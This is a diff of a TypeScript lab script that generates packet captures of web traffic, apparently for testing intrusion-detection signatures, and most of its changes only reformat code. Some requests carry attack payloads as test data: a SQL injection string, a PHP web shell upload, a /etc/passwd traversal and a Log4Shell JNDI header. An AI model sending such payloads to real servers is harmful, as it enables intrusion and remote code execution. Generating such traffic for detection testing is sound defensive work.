@@ -5,9 +5,9 @@
  */
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { randomFill } from './seeded.js';
 import { loadExamples, type Message } from './examples.js';
 import { Lab, labMissing, pageText, ServerIp } from './lab.js';
+import { randomFill } from './seeded.js';
 
 const target = process.argv[2] ?? 'pcaps';
 
@@ -16,7 +16,10 @@ function content(root: string): void {
   for (let i = 1; i <= 12; i++) writeFileSync(join(root, `page${i}.html`), pageText(i, 800 * i));
   writeFileSync(join(root, 'style.css'), 'body { font-family: sans-serif; margin: 2em }\n'.repeat(20));
   writeFileSync(join(root, 'app.js'), 'function greet(name) { return "hello " + name; }\n'.repeat(40));
-  writeFileSync(join(root, 'img', 'logo.png'), Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomFill(9000, 7)]));
+  writeFileSync(
+    join(root, 'img', 'logo.png'),
+    Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomFill(9000, 7)]),
+  );
   writeFileSync(join(root, 'packed', 'long.html'), pageText(77, 60_000));
   writeFileSync(join(root, 'zipped', 'long.html'), pageText(78, 60_000));
   writeFileSync(join(root, 'files', 'notes.html'), pageText(79, 500));
@@ -30,7 +33,24 @@ function send(lab: Lab, m: Message, repeat: number): void {
   for (const [k, v] of Object.entries(headers)) args.push('-H', `${k}: ${v}`);
   for (let i = 0; i < repeat; i++) {
     if (m.body === undefined) lab.curl(m.uri ?? '/', ...args);
-    else lab.inClient('curl', ['-s', '-g', '-o', '/dev/null', '--path-as-is', '-H', 'Host: www.example.com', ...args, '--data-binary', '@-', `http://${ServerIp}${m.uri ?? '/'}`], Buffer.from(m.body, 'latin1'));
+    else
+      lab.inClient(
+        'curl',
+        [
+          '-s',
+          '-g',
+          '-o',
+          '/dev/null',
+          '--path-as-is',
+          '-H',
+          'Host: www.example.com',
+          ...args,
+          '--data-binary',
+          '@-',
+          `http://${ServerIp}${m.uri ?? '/'}`,
+        ],
+        Buffer.from(m.body, 'latin1'),
+      );
   }
 }
 
@@ -47,7 +67,16 @@ const families: Record<string, [from: number, to: number]> = {
 
 function browse(lab: Lab): void {
   for (let i = 1; i <= 12; i++) {
-    lab.curl(`/page${i}.html`, '-H', 'Referer: http://www.example.com/', '--next', '-s', '-o', '/dev/null', `http://${ServerIp}/style.css`);
+    lab.curl(
+      `/page${i}.html`,
+      '-H',
+      'Referer: http://www.example.com/',
+      '--next',
+      '-s',
+      '-o',
+      '/dev/null',
+      `http://${ServerIp}/style.css`,
+    );
   }
   lab.curl('/img/logo.png');
   lab.curl('/app.js', '-H', 'If-Modified-Since: Mon, 01 Jan 2035 00:00:00 GMT');
@@ -67,9 +96,41 @@ function pipelining(lab: Lab): void {
 }
 
 function chunked(lab: Lab): void {
-  lab.inClient('curl', ['-s', '-o', '/dev/null', '-H', 'Transfer-Encoding: chunked', '-H', 'Expect:', '--data-binary', '@-', `http://${ServerIp}/cgi-bin/form`], `text=${pageText(5, 30_000)}`);
-  lab.inClient('curl', ['-s', '-o', '/dev/null', '-H', 'Transfer-Encoding: chunked', '--data-binary', '@-', `http://${ServerIp}/cgi-bin/form`], "q=x' or '1'='1");
-  lab.inClient('curl', ['-s', '-o', '/dev/null', '-F', 'file=@-;filename=shell.php', `http://${ServerIp}/cgi-bin/form`], '<?php system($_GET["c"]); ?>');
+  lab.inClient(
+    'curl',
+    [
+      '-s',
+      '-o',
+      '/dev/null',
+      '-H',
+      'Transfer-Encoding: chunked',
+      '-H',
+      'Expect:',
+      '--data-binary',
+      '@-',
+      `http://${ServerIp}/cgi-bin/form`,
+    ],
+    `text=${pageText(5, 30_000)}`,
+  );
+  lab.inClient(
+    'curl',
+    [
+      '-s',
+      '-o',
+      '/dev/null',
+      '-H',
+      'Transfer-Encoding: chunked',
+      '--data-binary',
+      '@-',
+      `http://${ServerIp}/cgi-bin/form`,
+    ],
+    "q=x' or '1'='1",
+  );
+  lab.inClient(
+    'curl',
+    ['-s', '-o', '/dev/null', '-F', 'file=@-;filename=shell.php', `http://${ServerIp}/cgi-bin/form`],
+    '<?php system($_GET["c"]); ?>',
+  );
 }
 
 function compressed(lab: Lab): void {
@@ -102,18 +163,35 @@ async function main(): Promise<void> {
     }
     await take('attack-leaks-and-logins', () => leaks(lab));
     await take('scanner', () => {
-      writeFileSync(join(lab.dir, 'words'), readFileSync('signatures/examples.yaml', 'utf8').match(/[a-z]{5,9}/g)!.slice(0, 120).join('\n'));
+      writeFileSync(
+        join(lab.dir, 'words'),
+        readFileSync('signatures/examples.yaml', 'utf8')
+          .match(/[a-z]{5,9}/g)!
+          .slice(0, 120)
+          .join('\n'),
+      );
       lab.inClient('dirb', [`http://${ServerIp}/`, join(lab.dir, 'words'), '-S', '-r', '-a', 'dirb/2.22']);
       lab.curl('/', '-A', 'Mozilla/5.00 (Nikto/2.5.0)');
     });
     await take('pipelining', () => pipelining(lab));
     await take('chunked', () => chunked(lab));
     await take('compressed', () => compressed(lab));
-    await take('keep-alive', () => void lab.inClient('ab', ['-q', '-n', '300', '-c', '4', '-k', `http://${ServerIp}/page3.html`]));
+    await take(
+      'keep-alive',
+      () => void lab.inClient('ab', ['-q', '-n', '300', '-c', '4', '-k', `http://${ServerIp}/page3.html`]),
+    );
     await take('offload-443', () => {
       lab.inClient('curl', ['-s', '-o', '/dev/null', '-g', `http://${ServerIp}:443/page1.html`]);
       lab.inClient('curl', ['-s', '-o', '/dev/null', '-g', `http://${ServerIp}:443/view?file=/etc/passwd`]);
-      lab.inClient('curl', ['-s', '-o', '/dev/null', '-g', '-H', 'X-Api-Version: ${jndi:ldap://192.0.2.1/a}', `http://${ServerIp}:443/`]);
+      lab.inClient('curl', [
+        '-s',
+        '-o',
+        '/dev/null',
+        '-g',
+        '-H',
+        'X-Api-Version: ${jndi:ldap://192.0.2.1/a}',
+        `http://${ServerIp}:443/`,
+      ]);
     });
   } finally {
     lab.close();
